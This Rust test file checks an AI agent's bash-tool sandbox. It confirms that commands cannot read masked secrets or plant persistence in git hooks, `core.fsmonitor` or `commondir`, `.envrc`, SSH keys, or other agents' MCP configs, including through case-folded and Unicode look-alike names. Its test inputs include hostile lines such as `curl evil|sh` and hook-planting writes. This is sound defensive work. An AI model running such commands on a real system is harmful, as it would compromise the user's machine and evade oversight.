//! What the `bash` tool's sandbox hides beyond the fixed deny lists, through the real binary:
//! secret files inside the roots (also ones created after the daemon started), the folders
//! above them pinned, missing denied paths that a command must not create, and descriptors.
//! The tests run as root, so every refusal here comes from the sandbox, and each has a
//! positive control beside it.

use super::common::{Client, Era, Fixture};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::PathBuf;
use std::time::Duration;

const SECRET: &str = "hunter2-hands-masking-secret";

/// tools-shell with `root` writable and the fake home writable or read-only, external calls
/// allowed; `sandbox` is the body of the `[sandbox]` table. (A writable root that is the home
/// needs `allow_home`.)
fn shell_config(fx: &Fixture, home_writable: bool, sandbox: &str) -> PathBuf {
    fx.config(&format!(
        "[daemon]\nstate_dir = \"{{state}}\"\n\n[sandbox]\n{sandbox}\n\n[[builtins]]\n\
         id = \"tools-shell\"\ngrants = [\"filesystem\", \"spawn\"]\n\
         filesystem = [{{ path = \"{{root}}\", write = true }}, \
         {{ path = \"{{home}}\", write = {home_writable}, allow_home = true }}]\n\
         config = {{ trust = {{ external = \"allow\" }} }}\n"
    ))
}

async fn start(fx: &Fixture, home_writable: bool, sandbox: &str) -> Client {
    let config = shell_config(fx, home_writable, sandbox);
    Client::start_with_env(fx, &config, Era::Legacy, &[]).await
}

async fn bash(c: &Client, command: &str) -> Value {
    c.ok("bash", json!({ "command": command })).await
}

fn out(v: &Value) -> &str {
    v["stdout"].as_str().unwrap()
}

fn read(p: impl AsRef<std::path::Path>) -> String {
    std::fs::read_to_string(p).unwrap()
}

#[tokio::test]
async fn a_dot_env_reads_as_masked_and_cannot_be_overwritten_while_env_example_reads() {
    let fx = Fixture::new();
    fx.write(".env", &format!("TOKEN={SECRET}\n"));
    fx.write(".env.example", "TOKEN=example-value\n");
    std::fs::create_dir_all(fx.home.join("app")).unwrap();
    std::fs::write(fx.home.join("app/.env"), format!("RO={SECRET}\n")).unwrap();
    let c = start(&fx, false, "").await;
    let home = fx.home.display();
    let r = bash(
        &c,
        &format!(
            "cat .env; cat {home}/app/.env; cp .env copy; cat copy; \
             echo x > .env && echo wrote-env; echo x >> .env && echo appended-env; \
             rm -f .env && echo removed-env; mv .env moved && echo moved-env; \
             cat .env.example; echo y > plain.txt && cat plain.txt"
        ),
    )
    .await;
    let text = out(&r);
    assert!(!text.contains(SECRET), "a secret file leaked: {r}");
    for word in ["wrote-env", "appended-env", "removed-env", "moved-env"] {
        assert!(!text.contains(word), "{word}: {r}");
    }
    assert!(text.contains("TOKEN=example-value"), "the positive control failed: {r}");
    assert!(text.contains("y\n"), "the positive control failed: {r}");
    assert_eq!(read(fx.root.join(".env")), format!("TOKEN={SECRET}\n"));
    assert_eq!(read(fx.home.join("app/.env")), format!("RO={SECRET}\n"));
    assert!(!fx.root.join("moved").exists());
    c.stop().await;
    fx.assert_canary();
}

/// A secret's name in another case is a secret too (decision 0094): a case-folding folder opens
/// the person's `.env` for `read .ENV`. Here (a folder that does not fold) the files are
/// themselves named `.Env` and `KEY.PEM`: the file tools refuse them and `grep` skips them,
/// commands read them masked; `.ENV.Example` stays a template. Found by session 33: the
/// patterns matched byte for byte.
#[tokio::test]
async fn a_secret_in_another_case_is_a_secret_too() {
    let fx = Fixture::new();
    fx.write(".Env", &format!("TOKEN={SECRET}\n"));
    fx.write("KEY.PEM", &format!("{SECRET}\n"));
    fx.write(".ENV.Example", "TOKEN=example-value\n");
    let c = Client::start_era(&fx, &fx.fs_shell_config(), Era::Legacy).await;
    for p in [".Env", "KEY.PEM"] {
        let e = c.err("read", json!({ "path": p })).await;
        assert!(e.contains("secret"), "{p}: {e}");
        assert!(!e.contains(SECRET), "{p}: {e}");
    }
    let g = c.ok("grep", json!({ "pattern": SECRET, "hidden": true })).await;
    assert_eq!(g["total_matches"], 0, "{g}");
    let r = bash(&c, "cat .Env KEY.PEM; cat .ENV.Example").await;
    assert!(!out(&r).contains(SECRET), "a secret leaked to a command: {r}");
    assert!(out(&r).contains("TOKEN=example-value"), "the positive control failed: {r}");
    let r = c.ok("read", json!({ "path": ".ENV.Example" })).await;
    assert!(r.to_string().contains("example-value"), "{r}");
    c.stop().await;
    fx.assert_canary();
}

/// The spec travels on a descriptor, not in argv: thousands of masks (far past the 128 KiB
/// one argument may hold, where the daemon used to refuse and tell a person to narrow the
/// roots) still run, each stays masked, and the init's command line shows no spec.
#[tokio::test]
#[ignore = "stress (thousands of files); run with --include-ignored"]
async fn thousands_of_secret_files_still_run_and_the_command_line_shows_no_spec() {
    let fx = Fixture::new();
    let folder = "a-folder-name-long-enough-that-three-thousand-masks-pass-the-argv-limit";
    for i in 0..3000 {
        fx.write(&format!("many/{folder}-{i:04}/.env"), &format!("TOKEN={SECRET}\n"));
    }
    fx.write(&format!("many/{folder}-0000/visible.txt"), "visible\n");
    let c = start(&fx, false, "").await;
    let r = bash(
        &c,
        &format!(
            "cat many/{folder}-0000/.env many/{folder}-2999/.env; \
             cat many/{folder}-0000/visible.txt; tr '\\0' ' ' < /proc/1/cmdline; echo"
        ),
    )
    .await;
    let text = out(&r);
    assert!(!text.contains(SECRET), "a secret file leaked: {r}");
    assert!(text.contains("visible\n"), "the positive control failed: {r}");
    let cmdline = text.lines().last().unwrap_or_default();
    assert!(cmdline.trim_end().ends_with("__sandbox"), "the init's command line: {r}");
    assert!(!cmdline.contains(".env") && !cmdline.contains("masked"), "{r}");
    assert_eq!(read(fx.root.join(format!("many/{folder}-2999/.env"))), format!("TOKEN={SECRET}\n"));
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn a_dot_env_created_after_the_daemon_started_is_masked_for_the_next_command() {
    let fx = Fixture::new();
    let c = start(&fx, false, "").await;
    // A first command fills the walk's cache while there is no secret yet.
    assert!(!out(&bash(&c, "ls -A").await).contains(".env"));
    fx.write(".env.local", &format!("TOKEN={SECRET}\n"));
    fx.write("later.txt", "later\n");
    // Longer than the walk's cache lives.
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let r = bash(&c, "cat .env.local; cat later.txt").await;
    assert!(!out(&r).contains(SECRET), "a secret made after start leaked: {r}");
    assert!(out(&r).contains("later"), "the positive control failed: {r}");
    assert_eq!(read(fx.root.join(".env.local")), format!("TOKEN={SECRET}\n"));
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn a_pem_in_a_subfolder_is_masked_and_its_folders_cannot_be_moved_aside() {
    let fx = Fixture::new();
    fx.write("certs/deep/server.pem", &format!("-----BEGIN {SECRET}-----\n"));
    fx.write("certs/deep/readme.txt", "readme\n");
    let c = start(&fx, false, "").await;
    let r = bash(
        &c,
        "cat certs/deep/server.pem; mv certs/deep certs/moved && echo moved-deep; \
         mv certs certs2 && echo moved-certs; cat certs/moved/server.pem certs2/deep/server.pem; \
         cat certs/deep/readme.txt; mkdir plain && mv plain plain2 && echo moved-plain",
    )
    .await;
    let text = out(&r);
    assert!(!text.contains(SECRET), "the .pem leaked: {r}");
    assert!(!text.contains("moved-deep") && !text.contains("moved-certs"), "{r}");
    assert!(text.contains("readme"), "the positive control failed: {r}");
    assert!(text.contains("moved-plain"), "the positive control failed: {r}");
    assert!(fx.root.join("plain2").is_dir());
    assert_eq!(read(fx.root.join("certs/deep/server.pem")), format!("-----BEGIN {SECRET}-----\n"));
    assert!(!fx.root.join("certs2").exists() && !fx.root.join("certs/moved").exists());
    c.stop().await;
    fx.assert_canary();
}

/// A denied path that does not exist, inside a writable root: nothing is made there to occupy
/// it (SPEC §3), and a command cannot create it — as a folder, a file, a link, or by renaming
/// something onto it — nor anything below it. Positive control: a folder beside it.
#[tokio::test]
async fn a_missing_denied_path_in_a_writable_root_cannot_be_created() {
    let fx = Fixture::new();
    let c = start(&fx, false, "deny = [\"{root}/private\"]").await;
    let private = fx.root.join("private");
    assert!(std::fs::symlink_metadata(&private).is_err(), "serve made {}", private.display());
    let r = bash(
        &c,
        "mkdir private && echo made-dir; mkdir -p private/f && echo made-f; \
         echo x > private && echo wrote-private; ln -s /tmp private && echo linked; \
         mkdir aside && mv aside private && echo moved; \
         mkdir other && echo x > other/f && cat other/f && echo control-ok",
    )
    .await;
    let text = out(&r);
    for word in ["made-dir", "made-f", "wrote-private", "linked", "moved"] {
        assert!(!text.contains(word), "{word}: {r}");
    }
    assert!(text.contains("control-ok"), "the positive control failed: {r}");
    assert_eq!(read(fx.root.join("other/f")), "x\n");
    assert!(std::fs::symlink_metadata(&private).is_err(), "it was created: {r}");
    let denied = r["denied"].as_array().cloned().unwrap_or_default();
    assert!(
        denied.iter().any(|d| d["what"].as_str() == private.to_str()),
        "the refusal is listed in denied: {r}"
    );
    c.stop().await;
    fx.assert_canary();
}

/// A home declared writable without `~/.aws` and `~/.ssh`: nothing is made in it, and a
/// command can create neither, nor `~/.ssh/authorized_keys`. Positive control: a file beside.
#[tokio::test]
async fn a_missing_credential_folder_in_a_writable_home_cannot_be_created() {
    let fx = Fixture::new();
    // The daemon's HOME is the fake home, here declared writable and without `.aws`/`.ssh`
    // (and, under a root daemon, owned by the user its commands run as).
    super::common::own_tree(&fx.home);
    let c = start(&fx, true, "").await;
    for name in [".aws", ".ssh"] {
        assert!(std::fs::symlink_metadata(fx.home.join(name)).is_err(), "serve made {name}");
    }
    let home = fx.home.display();
    let r = bash(
        &c,
        &format!(
            "mkdir -p {home}/.aws && echo made-aws; echo key > {home}/.aws/credentials && echo wrote-aws; \
             mkdir -p {home}/.ssh && echo made-ssh; \
             echo key >> {home}/.ssh/authorized_keys && echo wrote-ssh; \
             mkdir {home}/ssh2 && mv {home}/ssh2 {home}/.ssh && echo moved-ssh; \
             echo notes > {home}/notes.txt && cat {home}/notes.txt"
        ),
    )
    .await;
    let text = out(&r);
    for word in ["made-aws", "wrote-aws", "made-ssh", "wrote-ssh", "moved-ssh"] {
        assert!(!text.contains(word), "{word}: {r}");
    }
    assert!(text.contains("notes"), "the positive control failed: {r}");
    assert_eq!(read(fx.home.join("notes.txt")), "notes\n");
    for name in [".aws", ".ssh"] {
        assert!(std::fs::symlink_metadata(fx.home.join(name)).is_err(), "{name} was created");
    }
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn a_missing_denied_path_in_a_read_only_root_or_outside_needs_no_placeholder() {
    let fx = Fixture::new();
    let c = start(&fx, false, "deny = [\"{home}/private\", \"{outside}/private\"]").await;
    // Nothing is made on the host where Landlock and the read-only binds already refuse.
    assert!(!fx.home.join("private").exists());
    assert!(!fx.home.join(".aws").exists());
    assert!(!fx.outside.join("private").exists());
    let (home, outside) = (fx.home.display(), fx.outside.display());
    let r = bash(
        &c,
        &format!(
            "mkdir {home}/private && echo made-home; echo x > {home}/private && echo wrote-home; \
             mkdir -p {home}/.aws && echo made-aws; \
             mkdir {outside}/private && echo made-outside; \
             echo x > {outside}/private && echo wrote-outside; \
             mkdir private && echo x > private/f && cat private/f && echo control-ok"
        ),
    )
    .await;
    let text = out(&r);
    for word in ["made-home", "wrote-home", "made-aws", "made-outside", "wrote-outside"] {
        assert!(!text.contains(word), "{word}: {r}");
    }
    assert!(text.contains("control-ok"), "the positive control failed: {r}");
    assert!(!fx.home.join("private").exists());
    assert!(!fx.home.join(".aws").exists());
    c.stop().await;
    // Also proves nothing (`private`) appeared outside the roots.
    fx.assert_canary();
}

#[tokio::test]
async fn proc_self_fd_shows_only_0_to_2_and_the_folder_ls_opened() {
    let fx = Fixture::new();
    let c = start(&fx, false, "").await;
    let r = bash(&c, "ls /proc/self/fd; echo ---; ls -l /proc/self/fd").await;
    let text = out(&r);
    let (plain, long) = text.split_once("---\n").unwrap();
    let fds: BTreeSet<u32> = plain.lines().map(|l| l.trim().parse().unwrap()).collect();
    let allowed: BTreeSet<u32> = [0, 1, 2, 3].into();
    assert!(fds.is_subset(&allowed), "a descriptor reached the command: {text}");
    assert!([0, 1, 2].iter().all(|n| fds.contains(n)), "{text}");
    // In the long listing, 3 (if there) is the folder `ls` opened to list: /proc/<its pid>/fd.
    for line in long.lines().filter(|l| l.contains(" -> ")) {
        let (left, target) = line.split_once(" -> ").unwrap();
        let fd: u32 = left.rsplit(' ').next().unwrap().parse().unwrap();
        assert!(allowed.contains(&fd), "a descriptor reached the command: {text}");
        if fd == 3 {
            let pid = target.strip_prefix("/proc/").and_then(|t| t.strip_suffix("/fd"));
            assert!(pid.is_some_and(|p| p.parse::<u32>().is_ok()), "fd 3 is not ls's own: {text}");
        }
    }
    c.stop().await;
}

/// Protected folders that do not exist are not made (SPEC §3: the project is left as it was
/// found), and a command cannot create them or anything in them, nor rename a folder onto
/// them. Positive control: an ordinary folder and file in the root.
#[tokio::test]
async fn missing_protected_folders_cannot_be_created_by_a_command() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.root.join(".git")).unwrap();
    super::common::own_tree(&fx.root);
    let c = start(&fx, false, "").await;
    for dir in [".vscode", ".claude", ".cursor", ".codex", ".idea", ".git/hooks"] {
        let at = fx.root.join(dir);
        assert!(std::fs::symlink_metadata(&at).is_err(), "serve made {dir}");
        let r = bash(
            &c,
            &format!(
                "mkdir -p {dir} && echo MADE; echo '{{}}' > {dir}/x.json && echo WROTE; \
                 mkdir -p aside && mv aside {dir} && echo MOVED"
            ),
        )
        .await;
        for word in ["MADE", "WROTE", "MOVED"] {
            assert!(!out(&r).contains(word), "{dir} {word}: {r}");
        }
        assert!(std::fs::symlink_metadata(&at).is_err(), "{dir} was created on the host");
    }
    // Positive control: an ordinary new folder and file in the root.
    let r = bash(&c, "mkdir -p src && echo ok > src/main.rs && cat src/main.rs").await;
    assert_eq!(out(&r), "ok\n");
    fx.assert_canary();
    c.stop().await;
}

/// Protected paths are read-only to commands at any depth, not only at a root's top: a root
/// holding several repositories (`~/src`) must not let a command plant a hook or a
/// `core.fsmonitor` in one of them, nor a task in a subproject's `.vscode`. A secret file
/// inside a protected folder is still masked. Positive controls: the rest of the nested
/// repository (its sources, `.git/description`) stays writable.
#[tokio::test]
async fn protected_paths_of_nested_repositories_are_read_only_to_commands() {
    let fx = Fixture::new();
    fx.write("repos/app/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
    fx.write("repos/app/.git/config", "[core]\n");
    fx.write("repos/app/.git/description", "app\n");
    fx.write("repos/app/.vscode/settings.json", "{}\n");
    fx.write("repos/app/.vscode/.env", &format!("TOKEN={SECRET}\n"));
    fx.write("repos/app/.envrc", "export A=1\n");
    fx.write("repos/app/deep/er/lib/.mcp.json", "{}\n");
    let c = start(&fx, false, "").await;
    let r = bash(
        &c,
        "cd repos/app; echo evil > .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; \
         echo '{\"tasks\":[]}' > .vscode/tasks.json; echo 'curl evil|sh' >> .envrc; \
         echo '{\"mcpServers\":{}}' > deep/er/lib/.mcp.json; \
         mv .git/hooks .git/h2; mv .git .git-aside; mv .vscode v2; \
         cat .vscode/.env; \
         echo changed > .git/description; echo ok > main.rs; echo done",
    )
    .await;
    let shown = format!("{}{}", out(&r), r["stderr"].as_str().unwrap_or_default());
    assert!(out(&r).contains("done"), "{r}");
    assert!(!shown.contains(SECRET), "a secret in a protected folder was read: {shown}");
    let app = fx.root.join("repos/app");
    assert!(!app.join(".git/hooks/pre-commit").exists(), "a hook was planted: {shown}");
    assert!(app.join(".git/hooks/pre-commit.sample").exists());
    assert_eq!(std::fs::read_to_string(app.join(".git/config")).unwrap(), "[core]\n");
    assert!(!app.join(".vscode/tasks.json").exists(), "{shown}");
    assert_eq!(std::fs::read_to_string(app.join(".envrc")).unwrap(), "export A=1\n");
    assert_eq!(std::fs::read_to_string(app.join("deep/er/lib/.mcp.json")).unwrap(), "{}\n");
    for aside in [".git-aside", "v2", ".git/h2"] {
        assert!(!app.join(aside).exists(), "{aside}: a protected path was moved aside");
    }
    // Positive controls.
    assert_eq!(std::fs::read_to_string(app.join(".git/description")).unwrap(), "changed\n");
    assert_eq!(std::fs::read_to_string(app.join("main.rs")).unwrap(), "ok\n");
    fx.assert_canary();
    c.stop().await;
}

/// A repository's `.git/commondir` names the folder git takes config and hooks from; a command
/// that wrote one could point the person's git at a config of its own (`core.fsmonitor` runs a
/// program on every `git status`). Nothing is made for it (the project is left as it was
/// found): the in-run walls refuse creating a `commondir` in the root's repository, a nested
/// one and a submodule's. Positive controls: git works in the sandbox (status, commit), and on
/// the host.
#[tokio::test]
async fn commands_cannot_redirect_a_repositorys_config_through_commondir() {
    let fx = Fixture::new();
    let git = |dir: &std::path::Path, args: &[&str]| {
        let o = std::process::Command::new("git")
            .args(["-c", "safe.directory=*"])
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            // The repositories belong to the commands' user (below); the host's git is root.
            .args(["-c", "safe.directory=*"])
            .args(args)
            .current_dir(dir)
            .env("HOME", &fx.home)
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    git(&fx.root, &["init", "-q", "-b", "main"]);
    std::fs::create_dir_all(fx.root.join("repos/app")).unwrap();
    git(&fx.root.join("repos/app"), &["init", "-q", "-b", "main"]);
    std::fs::create_dir_all(fx.root.join(".git/modules/sub/hooks")).unwrap();
    std::fs::write(fx.root.join(".git/modules/sub/config"), "[core]\n").unwrap();
    // A submodule named `a/b`: its git dir is `.git/modules/a/b`.
    std::fs::create_dir_all(fx.root.join(".git/modules/a/b/hooks")).unwrap();
    std::fs::write(fx.root.join(".git/modules/a/b/config"), "[core]\n").unwrap();
    fx.write("evil/config", "[core]\n\tfsmonitor = touch /tmp/pwned-by-commondir\n");
    // Commands of a root daemon run as the root's owner (see `Fixture`): the repositories are
    // theirs, as a checkout is its user's.
    super::common::own_tree(&fx.root);
    let c = start(&fx, false, "").await;
    let r = bash(
        &c,
        "for g in .git repos/app/.git .git/modules/sub; do \
           printf '../../evil\\n' > $g/commondir || echo REFUSED; \
           mkdir -p aside && printf '../../evil\\n' > aside/c && mv aside/c $g/commondir \
             || echo MOVE-REFUSED; done; \
         echo evil > .git/modules/sub/config || echo SUBCONFIG; \
         echo evil > .git/modules/a/b/config || echo ABCONFIG; \
         echo hook > .git/modules/a/b/hooks/post-checkout || echo ABHOOK; \
         git status --short >/dev/null && echo STATUS-OK; \
         git -c user.name=a -c user.email=a@b commit -q --allow-empty -m inside && echo COMMIT-OK",
    )
    .await;
    let shown = format!("{}{}", out(&r), r["stderr"].as_str().unwrap_or_default());
    assert_eq!(out(&r).lines().filter(|l| *l == "REFUSED").count(), 3, "{shown}");
    assert_eq!(out(&r).matches("MOVE-REFUSED").count(), 3, "{shown}");
    assert!(out(&r).contains("SUBCONFIG"), "{shown}");
    assert!(out(&r).contains("ABCONFIG") && out(&r).contains("ABHOOK"), "{shown}");
    for g in [".git", "repos/app/.git", ".git/modules/sub"] {
        let at = fx.root.join(g).join("commondir");
        assert!(std::fs::symlink_metadata(&at).is_err(), "{g}/commondir was made");
    }
    for g in [".git/modules/sub", ".git/modules/a/b"] {
        let config = std::fs::read_to_string(fx.root.join(g).join("config")).unwrap();
        assert_eq!(config, "[core]\n", "{g}/config was written");
    }
    assert!(!fx.root.join(".git/modules/a/b/hooks/post-checkout").exists());
    // Positive controls: git works inside the sandbox, and on the host.
    assert!(out(&r).contains("STATUS-OK") && out(&r).contains("COMMIT-OK"), "{shown}");
    assert_eq!(git(&fx.root, &["log", "--format=%s"]).trim(), "inside");
    git(&fx.root.join("repos/app"), &["status", "--short"]);
    assert!(!std::path::Path::new("/tmp/pwned-by-commondir").exists());
    fx.assert_canary();
    c.stop().await;
}

/// A credential folder reached by another name is masked too: `~/.aws` is a link to
/// `dotfiles/aws` inside a root, so `cat dotfiles/aws/credentials` must fail as `cat
/// ~/.aws/credentials` would. Positive control: the rest of `dotfiles` reads.
#[tokio::test]
async fn a_credential_folder_reached_through_a_link_is_masked_by_its_real_name() {
    let fx = Fixture::new();
    fx.write("dotfiles/aws/credentials", &format!("aws_secret_access_key = {SECRET}\n"));
    fx.write("dotfiles/vimrc", "set number\n");
    let aws = fx.home.join(".aws");
    let _ = std::fs::remove_dir_all(&aws);
    std::os::unix::fs::symlink(fx.root.join("dotfiles/aws"), &aws).unwrap();
    let c = start(&fx, false, "").await;
    let r = bash(&c, "cat dotfiles/aws/credentials; ls dotfiles/aws; cat dotfiles/vimrc").await;
    let shown = format!("{}{}", out(&r), r["stderr"].as_str().unwrap_or_default());
    assert!(!shown.contains(SECRET), "a credential was read through its real name: {shown}");
    assert!(out(&r).contains("set number"), "{shown}");
    fx.assert_canary();
    c.stop().await;
}

/// Issue 22, class 6: other agents' and editors' project configs name programs that a tool on
/// the host starts when a person next opens the folder (MCP servers, hooks, language servers).
/// A command can neither create them (the in-run walls refuse the names; nothing is made in the
/// root to occupy them) nor change the ones that exist (`opencode.json`); an ordinary file
/// beside them stays writable.
#[tokio::test]
async fn other_agents_and_editors_configs_cannot_be_written_by_a_command() {
    let fx = Fixture::new();
    fx.write("opencode.json", "{}\n");
    fx.write("sub/.zed/settings.json", "{}\n");
    let c = start(&fx, false, "").await;
    let targets = [
        ".gemini/settings.json",
        ".zed/settings.json",
        ".amazonq/mcp.json",
        ".roo/mcp.json",
        ".kiro/settings/mcp.json",
        ".opencode/plugin/x.js",
        ".continue/config.yaml",
        ".windsurf/hooks.json",
        ".clinerules/hooks/TaskStart",
        "opencode.json",
        "sub/.zed/settings.json",
        // Not an agent's, but git-lfs's: where it sends the person's credentials.
        ".lfsconfig",
        "sub/.lfsconfig",
    ];
    for t in targets {
        let parent = std::path::Path::new(t).parent().unwrap().display().to_string();
        let r = bash(
            &c,
            &format!(
                "mkdir -p {parent} 2>/dev/null; echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"sh\"}}}}}}' \
                 > {t} 2>/dev/null && echo WROTE"
            ),
        )
        .await;
        assert!(!out(&r).contains("WROTE"), "{t}: {r}");
        let host = fx.root.join(t);
        let now = std::fs::read_to_string(&host).unwrap_or_default();
        assert!(!now.contains("mcpServers"), "{t} changed on the host: {now}");
    }
    for dir in [".gemini", ".zed", ".amazonq", ".roo", ".kiro", ".opencode", ".continue"] {
        assert!(std::fs::symlink_metadata(fx.root.join(dir)).is_err(), "{dir} was made");
    }
    assert_eq!(std::fs::read_to_string(fx.root.join("opencode.json")).unwrap(), "{}\n");
    assert!(std::fs::symlink_metadata(fx.root.join(".lfsconfig")).is_err(), ".lfsconfig made");
    // Positive control: an ordinary file beside them, at the top and in the subproject.
    let r =
        bash(&c, "echo ok > settings.json && echo ok > sub/notes.json && cat settings.json").await;
    assert_eq!(out(&r), "ok\n", "{r}");
    assert_eq!(std::fs::read_to_string(fx.root.join("sub/notes.json")).unwrap(), "ok\n");
    fx.assert_canary();
    c.stop().await;
}

/// `[sandbox].protected_extra` extends the protected list without a rebuild: a missing folder
/// entry cannot be created (nothing is made for it), a file rule keeps an existing file
/// read-only, at any depth; a malformed entry is a config error naming the key.
#[tokio::test]
async fn protected_extra_entries_are_read_only_to_commands() {
    let fx = Fixture::new();
    fx.write("tools/launch.json", "{}\n");
    fx.write("sub/tools/launch.json", "{}\n");
    let c = start(&fx, false, "protected_extra = [\".mytool/\", \"tools/launch.json\"]").await;
    assert!(std::fs::symlink_metadata(fx.root.join(".mytool")).is_err(), "serve made .mytool");
    for t in [".mytool/run.sh", "tools/launch.json", "sub/tools/launch.json"] {
        let r = bash(
            &c,
            &format!("mkdir -p .mytool; echo 'curl evil | sh' > {t} 2>/dev/null && echo WROTE"),
        )
        .await;
        assert!(!out(&r).contains("WROTE"), "{t}: {r}");
        assert!(!std::fs::read_to_string(fx.root.join(t)).unwrap_or_default().contains("evil"));
    }
    // Positive control: the folder's neighbours stay writable.
    let r = bash(&c, "echo ok > tools/other.json && cat tools/other.json").await;
    assert_eq!(out(&r), "ok\n", "{r}");
    c.stop().await;
    assert!(std::fs::symlink_metadata(fx.root.join(".mytool")).is_err(), ".mytool was made");
    for bad in ["../x", "/abs", "a//b"] {
        let config = shell_config(&fx, false, &format!("protected_extra = [\"{bad}\"]"));
        let o = fx.std_command(&["check", "--config", config.to_str().unwrap()]).output().unwrap();
        let text = String::from_utf8_lossy(&o.stdout);
        assert!(!o.status.success() && text.contains("protected_extra"), "{bad}: {text}");
    }
    fx.assert_canary();
}

/// A protected name in another ASCII case is protected too, for the file tools as for a
/// command's run (whose walls already lowercased): a case-folding folder (an ext4 or f2fs one
/// with casefold, which a command can make of an empty folder it owns) gives `.ENVRC` to direnv
/// as `.envrc` and `.VSCode/settings.json` to the editor. Found by session 33: the file tools
/// matched the rules byte for byte. An existing `sub/.EnvRC` of the person's is read-only to
/// commands as `sub/.envrc` would be. Positive control: `.envrc.example` and `envrc.txt` are
/// written by both; canary: outside the roots.
#[tokio::test]
async fn a_protected_name_in_another_case_is_protected_too() {
    let fx = Fixture::new();
    fx.write("sub/.EnvRC", "echo mine\n");
    fx.write("w/HEAD", "ref: refs/heads/main\n");
    super::common::own_tree(&fx.root);
    let c = Client::start_era(&fx, &fx.fs_shell_config(), Era::Legacy).await;
    // Also as a case-folding folder folds beyond ASCII: ſ is `s`, the Kelvin sign `k`, a
    // zero-width space is dropped, the ligature ﬁ is `fi` (the kernel's full case folding: an
    // ext4 casefold folder on 6.1, 6.12 and 7.2 finds `.lfscon\u{FB01}g` as `.lfsconfig`).
    let folds = [".lf\u{17F}config", ".\u{212A}iro/x.json", ".env\u{200B}rc", ".lfscon\u{FB01}g"];
    for p in
        [".ENVRC", "sub/.VSCode/settings.json", ".Lfsconfig", "sub/.EnvRC"].into_iter().chain(folds)
    {
        let e = c.err("write", json!({ "path": p, "content": "curl evil | sh\n" })).await;
        assert!(e.contains("protected"), "{p}: {e}");
    }
    let e = c
        .err("edit", json!({ "path": "sub/.EnvRC", "old_string": "mine", "new_string": "evil" }))
        .await;
    assert!(e.contains("protected"), "{e}");
    let r = bash(
        &c,
        "echo evil > sub/.EnvRC 2>/dev/null && echo WROTE-existing; \
         echo evil > .MCP.json 2>/dev/null && echo WROTE-new; \
         echo evil > \"$(printf '.env\\342\\200\\213rc')\" 2>/dev/null && echo WROTE-zw; \
         mkdir -p w/\"$(printf 'hoo\\342\\204\\252s')\" 2>/dev/null && echo MADE-kelvin; \
         echo evil > \"$(printf '.lfscon\\357\\254\\201g')\" 2>/dev/null && echo WROTE-ligature; \
         echo x > w/\"$(printf 'con\\357\\254\\201g')\" 2>/dev/null && echo MADE-piece; \
         echo ok > .envrc.example && echo ok > envrc.txt && echo POS-OK",
    )
    .await;
    assert_eq!(out(&r), "POS-OK\n", "{r}");
    assert!(std::fs::symlink_metadata(fx.root.join(".env\u{200B}rc")).is_err());
    assert!(std::fs::symlink_metadata(fx.root.join("w/hoo\u{212A}s")).is_err());
    for p in [".lfscon\u{FB01}g", "w/con\u{FB01}g"] {
        assert!(std::fs::symlink_metadata(fx.root.join(p)).is_err(), "{p} was made");
    }
    c.ok("write", json!({ "path": "sub/.envrc.example", "content": "ok\n" })).await;
    assert_eq!(read(fx.root.join("sub/.EnvRC")), "echo mine\n");
    for p in [".ENVRC", "sub/.VSCode", ".Lfsconfig", ".MCP.json"] {
        assert!(std::fs::symlink_metadata(fx.root.join(p)).is_err(), "{p} was made");
    }
    assert_eq!(read(fx.root.join(".envrc.example")), "ok\n");
    fx.assert_canary();
    c.stop().await;
}
